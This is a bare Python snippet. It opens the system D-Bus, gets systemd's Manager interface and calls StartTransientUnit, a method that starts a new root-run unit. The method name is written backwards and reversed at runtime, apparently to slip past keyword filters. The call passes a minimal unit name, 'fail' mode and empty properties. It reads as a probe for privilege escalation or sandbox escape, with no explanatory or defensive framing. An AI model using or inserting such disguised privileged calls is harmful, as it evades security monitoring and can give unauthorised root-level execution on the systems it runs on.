import dbus
o=dbus.SystemBus().get_object('org.freedesktop.systemd1','/org/freedesktop/systemd1')
getattr(dbus.Interface(o,dbus_interface='org.freedesktop.systemd1.Manager'),'tinUtneisnarTtratS'[::-1])('a','fail',[],[])
